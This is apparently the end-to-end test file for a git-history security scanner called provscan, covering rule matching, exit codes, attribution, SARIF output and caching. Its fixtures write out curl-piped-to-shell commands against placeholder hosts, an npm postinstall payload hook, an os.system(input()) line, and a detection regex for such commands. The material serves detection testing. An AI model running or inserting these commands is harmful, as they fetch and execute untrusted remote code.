// End-to-end: the provscan binary on repositories built at test time, as a CI step runs it.
#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <filesystem>
#include <map>
#include <set>

#include "tests/support/fixture_repo.h"
#include "tests/support/run_cli.h"

using namespace provscan::test;
using nlohmann::json;

namespace {

const char* kRules = R"(rules:
  - id: t.fetch-pipe
    engine: signature
    severity: high
    message: "pipe to shell"
    regex: 'curl[^|\n]*\|\s*sh\b'
  - id: t.note
    engine: signature
    severity: low
    message: "a note"
    literals: ["NOTE-TO-SELF"]
)";

struct Repo {
  FixtureRepo repo;
  TempDir dir;
  std::string rules, base, change;
  Repo() {
    rules = dir.file("rules.yaml", kRules);
    base = repo.commit("base", {{"install.sh", "#!/bin/sh\necho hi\n"}, {"README", "NOTE-TO-SELF\n"}});
    change = repo.commit("change", {{"install.sh", "#!/bin/sh\necho hi\ncurl -s https://x.invalid | sh\n"}},
                         Author{"Mallory", "m@unknown.example"});
  }
  std::vector<std::string> args(std::vector<std::string> extra) const {
    std::vector<std::string> a = {"scan", repo.path(), "--no-default-rules", "--rules", rules};
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
  }
};

}  // namespace

TEST_CASE("a signature fires on the added line only, charged to the commit that added it") {
  Repo r;
  const CliResult res = run_provscan(r.args({"--format", "json"}));
  CHECK(res.exit_code == 1);
  const json j = json::parse(res.out);
  CHECK(j["schema"] == "provscan/1");
  CHECK(j["summary"]["commits"] == 2);
  REQUIRE(j["findings"].size() == 2);
  // Findings are sorted by path, then line: "README" sorts before "install.sh".
  const json& pipe = j["findings"][1];
  CHECK(pipe["rule_id"] == "t.fetch-pipe");
  CHECK(pipe["commit"] == r.change);
  CHECK(pipe["path"] == "install.sh");
  CHECK(pipe["line"] == 3);
  CHECK(pipe["end_line"] == 3);
  CHECK(pipe["snippet"] == "curl -s https://x.invalid | sh");
  CHECK(pipe["author"]["person"].is_null());
  CHECK(pipe["author"]["identity"] == "Mallory <m@unknown.example>");
  CHECK(pipe["fingerprint"].get<std::string>().size() == 32);
  const json& note = j["findings"][0];
  CHECK(note["rule_id"] == "t.note");
  CHECK(note["commit"] == r.base);  // the root commit is diffed against the empty tree
}

TEST_CASE("gate: exit 0 below --fail-on, 1 at or above it") {
  Repo r;
  CHECK(run_provscan(r.args({"--fail-on", "critical"})).exit_code == 0);
  CHECK(run_provscan(r.args({"--fail-on", "high"})).exit_code == 1);
  // A range holding only the base commit: just the low-severity note.
  CHECK(run_provscan(r.args({"--range", r.base})).exit_code == 0);
  CHECK(run_provscan(r.args({"--range", r.base, "--fail-on", "low"})).exit_code == 1);
  // BASE..HEAD: only what the change adds.
  const CliResult pr = run_provscan(r.args({"--range", r.base + "..HEAD", "--format", "json"}));
  CHECK(pr.exit_code == 1);
  const json j = json::parse(pr.out);
  CHECK(j["summary"]["commits"] == 1);
  CHECK(j["findings"].size() == 1);
}

TEST_CASE("errors exit 2 and say why: repository, rules, roster, revision, arguments") {
  Repo r;
  TempDir tmp;
  CliResult res = run_provscan({"scan", tmp.path(), "--no-default-rules", "--rules", r.rules});
  CHECK(res.exit_code == 2);
  CHECK(res.err.find("cannot open repository") != std::string::npos);

  const std::string bad_rules = tmp.file("bad.yaml", "rules:\n  - id: x\n    engine: signature\n    severity: high\n");
  res = run_provscan({"scan", r.repo.path(), "--no-default-rules", "--rules", bad_rules});
  CHECK(res.exit_code == 2);
  CHECK(res.err.find(bad_rules + ":2:5: rule x: missing 'message'") != std::string::npos);

  const std::string bad_roster = tmp.file("roster.yaml", "people:\n  - id: a\n    emails: [a@x]\n    role: [x, y]\n");
  res = run_provscan(r.args({"--roster", bad_roster}));
  CHECK(res.exit_code == 2);
  CHECK(res.err.find(bad_roster + ":4:11: role must be a string") != std::string::npos);

  res = run_provscan(r.args({"--range", "no-such-branch..HEAD"}));
  CHECK(res.exit_code == 2);
  CHECK(res.err.find("no-such-branch") != std::string::npos);

  CHECK(run_provscan(r.args({"--fail-on", "urgent"})).exit_code == 2);
  CHECK(run_provscan({"frobnicate"}).exit_code == 2);
  CHECK(run_provscan(r.args({"--format", "json", "--output", "/nonexistent-dir/x/out.json"})).exit_code == 2);
}

TEST_CASE("nothing skipped silently: too-large blobs are listed and make the scan incomplete (exit 3)") {
  FixtureRepo repo;
  TempDir tmp;
  const std::string rules = tmp.file("r.yaml", kRules);
  repo.commit("big", {{"data/big.txt", std::string(5000, 'x') + "\n"}, {"small.txt", "ok\n"}});
  const std::vector<std::string> base = {"scan", repo.path(), "--no-default-rules", "--rules", rules,
                                         "--max-blob-bytes", "1000"};
  CliResult res = run_provscan(base);
  CHECK(res.exit_code == 3);
  CHECK(res.err.find("incomplete") != std::string::npos);
  auto with = [&](std::vector<std::string> extra) {
    auto a = base;
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
  };
  CHECK(run_provscan(with({"--no-fail-on-skip"})).exit_code == 0);
  res = run_provscan(with({"--format", "json", "--no-fail-on-skip"}));
  const json j = json::parse(res.out);
  bool found = false;
  for (const json& s : j["skipped"])
    found = found || (s["kind"] == "blob-too-large" && s["path"] == "data/big.txt");
  CHECK(found);
}

TEST_CASE("bare repositories, --all, and output identical for --jobs 1 and 2") {
  FixtureRepo repo(FixtureOptions{.bare = true});
  TempDir tmp;
  const std::string rules = tmp.file("r.yaml", kRules);
  const std::string c1 = repo.commit("one", {{"a.sh", "curl x | sh\n"}});
  repo.branch("side");
  repo.checkout_branch("side");
  const std::string c2 = repo.commit("two", {{"b.sh", "curl y | sh\nNOTE-TO-SELF\n"}});
  repo.checkout_branch("main");
  const std::string c3 = repo.commit("three", {{"c.sh", "curl z | sh\n"}});
  repo.tag("v1", c2);
  auto scan = [&](const char* jobs) {
    return run_provscan({"scan", repo.path(), "--all", "--no-default-rules", "--rules", rules, "--format", "json",
                         "--jobs", jobs});
  };
  const CliResult one = scan("1"), two = scan("2");
  CHECK(one.exit_code == 1);
  CHECK(one.out == two.out);
  const json j = json::parse(one.out);
  CHECK(j["summary"]["commits"] == 3);
  std::set<std::string> commits;
  for (const json& f : j["findings"]) commits.insert(f["commit"]);
  CHECK(commits == std::set<std::string>{c1, c2, c3});
  // HEAD alone does not reach the side branch.
  const json head = json::parse(
      run_provscan({"scan", repo.path(), "--no-default-rules", "--rules", rules, "--format", "json"}).out);
  CHECK(head["summary"]["commits"] == 2);
}

TEST_CASE("roster attribution reaches findings") {
  Repo r;
  TempDir tmp;
  const std::string roster = tmp.file("roster.yaml", "people:\n  - id: p-9\n    name: Mallory M\n    emails: [M@Unknown.Example]\n");
  const json j = json::parse(run_provscan(r.args({"--roster", roster, "--format", "json"})).out);
  REQUIRE(j["findings"].size() == 2);
  CHECK(j["findings"][1]["author"]["person"] == "p-9");      // install.sh, by Mallory
  CHECK(j["findings"][0]["author"]["person"].is_null());  // README, by Alice: not in this roster
  CHECK(j["inputs"]["roster_sha256"].get<std::string>().size() == 64);
}

TEST_CASE("sarif output carries rules, locations and partial fingerprints") {
  Repo r;
  const CliResult res = run_provscan(r.args({"--format", "sarif"}));
  const json s = json::parse(res.out);
  CHECK(s["version"] == "2.1.0");
  const json& run = s["runs"][0];
  CHECK(run["results"].size() == 2);
  const json& res0 = run["results"][1];
  CHECK(res0["ruleId"] == "t.fetch-pipe");
  CHECK(run["tool"]["driver"]["rules"][res0["ruleIndex"].get<int>()]["id"] == res0["ruleId"]);
  CHECK(res0["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "install.sh");
  CHECK(res0["locations"][0]["physicalLocation"]["region"]["startLine"] == 3);
  CHECK(res0["partialFingerprints"].contains("provscan/v1"));
}

TEST_CASE("scan: overlapping bundled rules report a line once, under the most specific rule") {
  // `curl ... | sh` is a fetch piped to a shell in any file, a build step in a Makefile, and an
  // install-time payload in package.json: one finding each, never two on the same line.
  FixtureRepo repo;
  repo.commit("add", {{"install.sh", "#!/bin/sh\ncurl -fsSL https://get.example.invalid/i.sh | sh\n"},
                      {"Makefile", "deps:\n\tcurl -fsSL https://get.example.invalid/i.sh | sh\n"},
                      {"package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n"
                                       "    \"postinstall\": \"curl -s https://get.example.invalid/p.sh | sh\",\n"
                                       "    \"preinstall\": \"node ./setup.js\"\n  }\n}\n"}});
  const CliResult r = run_provscan({"scan", repo.path(), "--format", "json", "--progress", "never"});
  INFO(r.err);
  REQUIRE(r.exit_code == 1);
  const json doc = json::parse(r.out);
  std::map<std::string, std::multiset<std::string>> rules_by_place;
  for (const json& f : doc.at("findings"))
    rules_by_place[f.at("path").get<std::string>() + ":" + std::to_string(f.at("line").get<int>())].insert(
        f.at("rule_id").get<std::string>());
  CHECK(rules_by_place["install.sh:2"] == std::multiset<std::string>{"sh.fetch-pipe-to-shell"});
  CHECK(rules_by_place["Makefile:2"] == std::multiset<std::string>{"build.fetch-pipe-to-shell"});
  CHECK(rules_by_place["package.json:4"] == std::multiset<std::string>{"npm.lifecycle-script-payload"});
  // An install hook with no payload is still worth a look, under the general rule.
  CHECK(rules_by_place["package.json:5"] == std::multiset<std::string>{"js.npm-install-hook"});
}

TEST_CASE("scan: --cache-dir keeps compiled rule databases, reused by the next run; --no-cache writes none") {
  FixtureRepo repo;
  repo.commit("add", {{"install.sh", "#!/bin/sh\ncurl -fsSL https://get.example.invalid/i.sh | sh\n"},
                      {"a.py", "import os\nos.system(input())\n"}});
  TempDir dir;
  const std::string cache = dir.path() + "/cache";
  auto entries = [&] {
    std::map<std::string, std::filesystem::file_time_type> out;
    if (std::filesystem::exists(cache))
      for (const auto& e : std::filesystem::directory_iterator(cache)) out[e.path().filename()] = e.last_write_time();
    return out;
  };
  const std::vector<std::string> base = {"scan", repo.path(), "--format", "json", "--progress", "never"};
  auto with = [&](std::vector<std::string> extra) {
    std::vector<std::string> args = base;
    args.insert(args.end(), extra.begin(), extra.end());
    // The environment names the same folder: --no-cache must win over it.
    const CliResult r = run_provscan_limited(args, 300, {{"PROVSCAN_CACHE_DIR", cache}});
    INFO(r.err);
    CHECK(r.exit_code == 1);
    return r.out;
  };
  const std::string first = with({"--cache-dir", cache});
  const auto after_first = entries();
  // The signature database and the query prefilter's word list (compiled in the engine worker).
  CHECK(after_first.size() >= 2);
  for (const auto& [name, when] : after_first) CHECK(name.rfind("hs-", 0) == 0);
  const std::string second = with({"--cache-dir", cache});
  CHECK(entries() == after_first);  // read, not rewritten
  CHECK(first == second);
  std::filesystem::remove_all(cache);
  const std::string uncached = with({"--no-cache"});
  CHECK(first == uncached);
  CHECK(entries().empty());
}
